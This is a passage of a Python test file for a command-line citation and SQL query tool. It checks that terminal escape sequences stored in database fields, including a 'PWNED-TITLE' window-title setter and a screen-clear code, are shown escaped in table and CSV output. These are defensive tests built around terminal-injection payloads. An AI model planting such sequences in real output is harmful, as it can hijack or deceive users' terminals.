    status, out, _ = run_cli(["cite", CLAIM, "--db", str(database)], built, monkeypatch)
    assert "\\x1b]0;PWNED-TITLE\\x07\\x1b[2J\\x1b[31mTable 1\\x1b[0m" in out
    status, out, _ = run_cli(["cite", CLAIM, "--db", str(database), "--style", "json"], built, monkeypatch)
    assert json.loads(out)["claim"]["locator"] == ESCAPES  # JSON stays exact data


def test_query_prints_control_characters_as_text(built, monkeypatch):  # 20, query
    sql = "SELECT chr(27) || ']0;T' || chr(7) || chr(27) || '[2J' || chr(155) || 'x' AS locator, 1 AS n"
    _, table, _ = run_cli(["query", sql], built, monkeypatch)
    assert table.splitlines()[1].split() == ["\\x1b]0;T\\x07\\x1b[2J\\x9bx", "1"]
    _, text, _ = run_cli(["query", sql, "--format", "csv"], built, monkeypatch)
    assert text == "locator,n\n\\x1b]0;T\\x07\\x1b[2J\\x9bx,1\n"
    _, text, _ = run_cli(["query", sql, "--format", "json"], built, monkeypatch)
    assert json.loads(text) == [{"locator": "\x1b]0;T\x07\x1b[2J\x9bx", "n": 1}] and "\x1b" not in text
    _, text, _ = run_cli(["query", "SELECT 'line' || chr(10) || 'break' AS t", "--format", "csv"], built, monkeypatch)
    assert text == 't\n"line\nbreak"\n'  # a line break inside a quoted CSV cell is data
    _, text, _ = run_cli(["query", "SELECT 'line' || chr(10) || 'break' AS t"], built, monkeypatch)
    assert text.splitlines()[1] == "line\\nbreak"  # in the table it would break the layout: shown escaped


def test_printable_keeps_what_it_is_told_to():
    assert printable("a\x1b[2J\n\tb\x7f\x9b") == "a\\x1b[2J\\x0a\\x09b\\x7f\\x9b"
    assert printable("a\x1b\n\tb", keep="\n\t") == "a\\x1b\n\tb"
    assert printable("Llama 2 · 70B — ünïcode") == "Llama 2 · 70B — ünïcode"



def test_the_reliability_page_counts_these_tests():
    page = (REPO / "docs" / "reliability.md").read_text()
    source = Path(__file__).read_text()
    functions = len(re.findall(r"^def test_", source, flags=re.MULTILINE))
    assert f"**{functions} test functions**" in page
    steps = re.search(r'parametrize\("step", \[([\d, ]+)\]\)', source).group(1).split(", ")
    assert f"after each of the {len(steps)} renames" in page
